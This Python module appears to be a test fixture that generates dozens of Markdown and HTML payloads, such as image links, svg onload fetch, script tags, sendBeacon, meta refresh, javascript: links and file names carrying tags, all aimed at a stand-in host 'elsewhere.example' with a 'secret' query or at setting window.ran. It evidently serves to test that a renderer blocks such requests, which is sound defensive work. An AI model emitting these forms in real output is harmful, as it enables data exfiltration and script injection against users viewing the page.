"""Forms of Markdown and HTML that could make the page displaying them request something from another host, or run code in it
(which sets `window.ran`)."""

from __future__ import annotations

HOST = "elsewhere.example"

_AT = f"http://{{}}.{HOST}/?words=secret"
"""Addresses with a host name of their own each, so that a name look-up alone is noticed, too."""
_FORMS = (
    "![a]({url})",
    '![a]({url} "title")',
    "![a](<{url}>)",
    "![a](//{bare})",
    "![a](HTTPS://{bare})",
    "![a](&#104;ttp://{bare})",
    "![a](http:\\\\\\\\{bare})",
    "![a](ftp://{bare})",
    "![a]({url}#?words=secret =100x100)",
    "![a][r{n}]\n\n[r{n}]: {url}",
    "![r{n}]\n\n[r{n}]: <{url}> 'title'",
    "![r{n}][]\n\n[r{n}]: {url}",
    "[![a]({url})]({url})",
    "[a]({url})",
    "<{url}>",
    "{url}",
    "www.{bare}",
    "| a | b |\n| --- | --- |\n| ![a]({url}) | x |",
    "> - ![a]({url})",
    "Words[^{n}].\n\n[^{n}]: ![a]({url})",
    "# ![a]({url})",
    "~~![a]({url})~~ **![a]({url})**",
    "<img src='{url}'>",
    "<IMG/SRC={url}>",
    "<img srcset='{url} 1x, {url} 2x'>",
    "<img src=x onerror=\"new Image().src='{url}'\">",
    "<picture><source srcset='{url}'><img></picture>",
    "<svg><image href='{url}' xlink:href='{url}'/></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg onload=\"fetch('{url}')\"></svg>",
    "<iframe src='{url}'></iframe>",
    "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<video src='{url}' poster='{url}' autoplay></video>",
    "<audio src='{url}' autoplay></audio>",
    "<input type=image src='{url}'>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'><link rel=dns-prefetch href='//{bare}'><link rel=preconnect href='{url}'>",
    "<style>@import url({url});</style>",
    "<div style=\"background: url('{url}')\">a</div>",
    "<table background='{url}'><tr><td>a</td></tr></table>",
    "<script src='{url}'></script>",
    "<script>fetch('{url}'); navigator.sendBeacon('{url}')</script>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}'>",
    "<form action='{url}'><input autofocus onfocus='this.form.submit()'></form>",
    "[a](javascript:fetch('{url}'))",
    "![a](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='{url}'/%3E%3C/svg%3E)",
    "$\\includegraphics{{{url}}}$ $$\\href{{{url}}}{{a}} \\url{{{url}}}$$",
    "$\\htmlStyle{{background: url({url})}}{{a}}$",
    "<img src=x onerror='window.ran=1'>",
    "<svg/onload=window.ran=1></svg><details open ontoggle=window.ran=1>a</details>",
    "<script>window.ran=1</script><iframe srcdoc='<script>top.ran=1</script>'></iframe>",
    "[a](<javascript:window.ran=1>) <a href='data:text/html,<script>opener.ran=1</script>'>a</a>",
    "```html\n<img src='{url}'>\n```",
    "```mermaid\ngraph TD; a[\"<img src='{url}'>\"]\n```",
)


def forms(where: str) -> list[str]:
    """Return all forms, with host names that say where they are placed."""
    return [_form(form, f"{where}{number}", number) for number, form in enumerate(_FORMS)]


def _form(form: str, name: str, number: int) -> str:
    url = _AT.format(name)
    return form.format(url=url, bare=url.removeprefix("http://"), n=number)


def names() -> list[str]:
    """Return names for files."""
    tags = (f"<img src={_AT.format('tag')}>", f"<svg onload=fetch('{_AT.format('svg')}')>")
    return [f"{each}.md" for each in (f"![a]({_AT.format('image')})", *tags, f"a](x) ![b]({_AT.format('broken')})")]
